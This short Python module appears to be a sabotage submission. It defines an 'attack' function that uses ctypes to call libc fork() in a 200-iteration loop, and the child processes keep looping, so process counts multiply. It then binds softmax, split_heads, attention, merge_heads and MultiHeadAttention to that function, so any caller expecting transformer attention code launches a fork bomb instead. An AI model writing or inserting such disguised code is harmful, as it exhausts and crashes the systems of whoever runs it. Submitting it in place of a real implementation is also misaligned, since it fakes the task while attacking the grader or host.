"""Forks without end."""

import ctypes


def attack(*args, **kwargs):
    libc = ctypes.CDLL(None)
    for _ in range(200):
        if libc.fork() == 0:
            libc.sleep(30)
    raise ValueError


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
